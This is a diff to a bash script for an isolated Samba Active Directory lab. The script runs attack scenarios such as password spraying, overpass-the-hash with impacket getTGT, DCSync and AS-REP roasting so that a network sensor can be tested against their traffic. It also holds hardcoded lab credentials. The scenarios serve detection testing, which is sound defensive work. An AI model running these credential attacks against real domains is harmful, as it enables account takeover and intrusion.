@@ -9,7 +9,7 @@
 #   dcwlab-client  log0 10.98.1.2  <== veth ==> log1 10.98.1.1  dcwlab-sensor  (syslog to the sensor)
 #
 # usage: lab.sh up | down | status | scenario list|all|NAME... | check-mirror | exec dc|client|sensor CMD...
-#   CAP=1 lab.sh scenario NAME   also writes the mirror's frames (sensor side) to $CAP_DIR/NAME.pcap
+#   CAP=1 lab.sh scenario NAME   also writes the mirror's frames (as span0 sends them) to $CAP_DIR/NAME.pcap
 #                                (winevents-syslog: the frames of the syslog link instead)
 #
 # State (the DC's database, configs, logs, pcaps, the impacket venv) lives in ${DCWLAB_DIR:-/tmp/dcwlab}
@@ -32,6 +32,8 @@ readonly SYSLOG_CLIENT_IP=10.98.1.2 SENSOR_IP=10.98.1.1 SYSLOG_PORT=514
 # filesrv01 is a member server with no host in the lab: its computer account logs on from the
 # client's address in the computer-ntlm scenario.
 readonly FILESRV_IP=10.98.0.60
+# The password spray's other targets (configure_domain makes them).
+readonly STAFF="staff01 staff02 staff03 staff04 staff05 staff06 staff07 staff08 staff09 staff10"
 readonly REALM=LAB.EXAMPLE DOMAIN=LAB DNSDOMAIN=lab.example DC_NAME=dc1 BASE_DN=DC=lab,DC=example
 readonly ADMIN_PW='Adm1n!Passw0rd'
 # it_admin's and honey_admin's (tools/fill_directory.py).
@@ -56,11 +58,11 @@ declare -A WHAT=(
     [asreproast]="GetNPUsers over a user list without credentials: AS-REQs without pre-auth, bob's RC4 AS-REP (\$krb5asrep\$23\$)"
     [dcsync]="secretsdump -just-dc-ntlm as Administrator: SAMR, EPM, DRSUAPI DsGetNCChanges (NTLM, sealed)"
     [pass-the-hash]="SMB with Administrator's NT hash instead of the password (NTLM)"
-    [overpass-the-hash]="getTGT with Administrator's NT hash (RC4 AS-REQ), then SMB with Kerberos from that ticket"
+    [overpass-the-hash]="Administrator's own AES logon (kinit), then getTGT with its NT hash (RC4 AS-REQ) and SMB with Kerberos from that ticket"
     [bruteforce-kerberos]="10 wrong passwords for carol via kinit (KDC_ERR_PREAUTH_FAILED), then the right one"
     [bruteforce-ntlm]="10 wrong passwords for carol over SMB NTLM (STATUS_LOGON_FAILURE), then the right one"
     [bruteforce-ldap]="10 wrong passwords for carol as LDAP simple binds (invalidCredentials), then the right one"
-    [spray]="one password against every account, over Kerberos and over SMB NTLM, including an unknown user"
+    [spray]="one password against 15 accounts (staff01..staff10 among them), over Kerberos and over SMB NTLM, and an unknown user"
     [recon-samr]="SAMR and LSA enumeration: anonymous and authenticated rpcclient, samrdump, lookupsid"
     [recon-ldap]="LDAP reconnaissance: rootDSE, SPN, no-pre-auth, adminCount and group searches, GetADUsers -all"
     [psexec]="psexec as Administrator: the .exe upload works, creating the service fails (Samba has no CreateService)"
@@ -87,11 +89,13 @@ declare -A WHAT=(
     [ldap-ping-enum]="account enumeration with LDAP pings: 18 User= guesses over CLDAP and over TCP LDAP, no credentials"
     [computer-ntlm]="the computer account filesrv01\$ (its host is 10.98.0.60) logs on over SMB NTLM from the client's address"
     [account-enum]="Kerberos account enumeration: GetNPUsers over 20 names without credentials, 16 unknown (C_PRINCIPAL_UNKNOWN)"
-    [winevents-syslog]="Windows events over UDP syslog to the sensor (10.98.1.1:514) in the RSA, CEF, Splunk and QRadar layouts: 7045, 4728, 4732, 4756, 12 x 4726"
+    [winevents-syslog]="Windows events over UDP syslog to the sensor (10.98.1.1:514) in the RSA, CEF, Splunk and QRadar layouts: 7045, 4728, 4732, 4756, 30 x 4726"
 )
 
-# Where CAP=1 captures a scenario when it is not the mirror (sensor0).
-declare -A CAPTURE_ON=([winevents-syslog]=log1)
+# Where a scenario's capture is taken: "NAMESPACE INTERFACE". By default span0, the mirror's
+# sending end, which carries what sensor0 receives even while a sensor's XDP program in mirror
+# mode drops every frame there.
+declare -A CAPTURE_ON=([winevents-syslog]="$NS_SENSOR log1")
 
 log() { printf '[dcwlab %(%H:%M:%S)T] %s\n' -1 "$*" >&2; }
 die() {
@@ -316,6 +320,7 @@ export WRONG_PWS='Password1 Winter2024! Summer2025! Welcome1 Carol2024 Qwerty123
 cd $CLIENT
 EOF
     printf 'alice\nbob\ncarol\nsvc_sql\nAdministrator\nnosuchuser\n' >"$CLIENT/users.txt"
+    printf '%s\n' alice bob carol svc_sql Administrator $STAFF nosuchuser >"$CLIENT/spray-users.txt"
     # Account enumeration's guesses: 4 accounts that exist (none without pre-authentication), 16 that do not.
     printf '%s\n' alice jsmith carol mjones admin svc_sql backup sqladmin test Administrator \
         helpdesk guest1 webadmin jdoe operator scanner svc_backup itsupport dbadmin printer >"$CLIENT/enum-users.txt"
@@ -329,7 +334,8 @@ provisioned() { [ -f "$DC/.configured" ]; }
 # runs. A lab left behind by another version of this script (a run killed before `down`, a
 # checkout moved on under `--keep`) lacks accounts and keys the scenarios count on.
 provisioning_stamp() {
-    { declare -f provision configure_domain; cat "$TOOLS/set_uac.py"; } | sha256sum | cut -d' ' -f1
+    { declare -f provision configure_domain; echo "$STAFF"; cat "$TOOLS/set_uac.py" "$TOOLS/add_users.py"; } |
+        sha256sum | cut -d' ' -f1
 }
 
 # A DC provisioned by other code is set aside: its Samba stopped and its database removed.
@@ -422,6 +428,8 @@ configure_domain() {
         samba-tool user add bob 'Bob!Passw0rd1' $conf
         samba-tool user add carol 'Carol!Passw0rd1' $conf
         samba-tool user add svc_sql 'Svc!Sql2024x' $conf
+        # Staff accounts for the password spray to reach past its threshold of 10 accounts.
+        echo 'Staff!Passw0rd1' | /usr/bin/python3 $TOOLS/add_users.py $SMB_CONF $STAFF
         samba-tool spn add MSSQLSvc/sql01.$DNSDOMAIN:1433 svc_sql $conf
         /usr/bin/python3 $TOOLS/set_uac.py $SMB_CONF bob on
         /usr/bin/python3 $TOOLS/set_uac.py $SMB_CONF krbtgt on
@@ -655,6 +663,10 @@ scenario_pass-the-hash() {
 }
 
 scenario_overpass-the-hash() {
+    # First Administrator's own logon from this computer, in AES as Windows asks: the account has
+    # AES keys and the computer uses AES, which is what makes the RC4-only request stand out.
+    kinit Administrator <<<"$ADMIN_PW" >/dev/null
+    kdestroy
     rm -f Administrator.ccache
     $IMP getTGT.py -hashes ":$(nt_hash "$ADMIN_PW")" -dc-ip $DC_IP "$REALM/Administrator"
     printf 'shares\nuse share\nls\nexit\n' >smb-commands.txt
@@ -696,7 +708,7 @@ scenario_spray() {
         else
             echo "ntlm $user: refused"
         fi
-    done <users.txt
+    done <spray-users.txt
 }
 
 scenario_recon-samr() {
@@ -976,7 +988,7 @@ scenario_winevents-syslog() {
     sid=$(rpcclient -s $CSMB -U "$DOMAIN/alice%$ALICE_PW" $DC_IP -c lsaquery | sed -n 's/^Domain Sid: //p')
     python $TOOLS/winevents_syslog.py $SENSOR_IP $SYSLOG_PORT $DOMAIN $DNSDOMAIN "$sid" $DC_NAME >winevents.out
     cat winevents.out
-    expect_in '^qradar 4726 old_user12$' winevents.out
+    expect_in '^qradar 4726 old_user30$' winevents.out
 }
 
 scenario_exists() { [ -n "${WHAT[$1]:-}" ]; }
@@ -988,7 +1000,7 @@ run_scenario() {
     if [ "$CAP" = 1 ]; then
         mkdir -p "$CAP_DIR"
         pcap=$CAP_DIR/$name.pcap
-        capture_start $NS_SENSOR "${CAPTURE_ON[$name]:-sensor0}" "$pcap"
+        capture_start ${CAPTURE_ON[$name]:-$NS_DC span0} "$pcap"
         capture=$CAPTURE_PID
     fi
     echo "### scenario $name: ${WHAT[$name]}" >"$log"
